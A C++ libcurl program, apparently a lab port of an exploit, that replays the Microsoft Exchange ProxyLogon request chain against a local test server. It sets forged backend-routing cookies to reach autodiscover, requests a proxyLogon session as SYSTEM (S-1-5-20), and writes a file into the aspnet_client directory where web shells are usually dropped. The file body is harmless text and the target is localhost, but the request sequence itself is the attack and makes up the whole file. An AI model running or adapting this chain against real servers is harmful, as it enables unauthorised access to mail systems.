// C++ libcurl port of the lab request chain (toy server on 127.0.0.1 only).
#include <curl/curl.h>

#include <iostream>
#include <sstream>
#include <string>
#include <vector>

namespace {

const std::string kAgent =
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
const std::string kDomain = "lab.invalid";
const std::string kNote = "/aspnet_client/system_web/readme_91453.txt";

size_t collect(char* data, size_t size, size_t n, void* out) {
  static_cast<std::string*>(out)->append(data, size * n);
  return size * n;
}

std::vector<std::string> browser() {
  return {
      "User-Agent: " + kAgent,
      "x-requested-with: XMLHttpRequest",
      "Accept: */*",
      "accept-language: en-US,en;q=0.9",
      "connection: close",
  };
}

long send(const std::string& url, const std::vector<std::string>& headers, const std::string* body,
          std::string& answer) {
  CURL* curl = curl_easy_init();
  struct curl_slist* list = nullptr;
  for (const auto& h : headers) list = curl_slist_append(list, h.c_str());
  curl_easy_setopt(curl, CURLOPT_URL, url.c_str());
  curl_easy_setopt(curl, CURLOPT_HTTPHEADER, list);
  curl_easy_setopt(curl, CURLOPT_TIMEOUT, 10L);
  curl_easy_setopt(curl, CURLOPT_WRITEFUNCTION, collect);
  curl_easy_setopt(curl, CURLOPT_WRITEDATA, &answer);
  if (body != nullptr) curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body->c_str());
  long code = 0;
  if (curl_easy_perform(curl) == CURLE_OK) curl_easy_getinfo(curl, CURLINFO_RESPONSE_CODE, &code);
  curl_slist_free_all(list);
  curl_easy_cleanup(curl);
  return code;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string base = std::string("http://127.0.0.1:") + (argc > 1 ? argv[1] : "8080");
  std::string answer;
  auto first = browser();
  first.push_back("cookie: X-AnonResource=true; X-AnonResource-Backend=" + kDomain +
                  "; X-BEResource=localhost@" + kDomain + "/ews/exchange.asmx?a%3D~1843073522");
  const std::string pad(37, 'A');
  const long code = send(base + "/autodiscover/autodiscover.json?Pad=" + pad +
                             "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi"
                             "&RequestId=20200302-7720",
                         first, nullptr, answer);
  if (code == 0 || code >= 500) return 1;

  const std::string json =
      R"({"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1})";
  answer.clear();
  const long status = send(base + "/ecp/proxyLogon.ecp",
                           {"user-agent: " + kAgent, "msexchlogonmailbox: S-1-5-20",
                            "content-type: application/json",
                            "X-BEResource: localhost@" + kDomain + "/ecp/proxyLogon.ecp"},
                           &json, answer);
  std::string who = status == 200 ? answer : "";
  if (who.empty()) who = "anonymous";

  std::ostringstream note;
  for (int i = 1; i <= 3; ++i) note << (i > 1 ? "\n" : "") << "note " << i << " of 3 for " << who;
  const std::string text = note.str();
  std::string ignored;
  send(base + kNote, {"user-agent: " + kAgent, "X-Note-Path: " + kNote, "Content-Type: text/plain"},
       &text, ignored);
  std::string back;
  send(base + kNote, browser(), nullptr, back);
  std::cout << back.size() << std::endl;
  return 0;
}
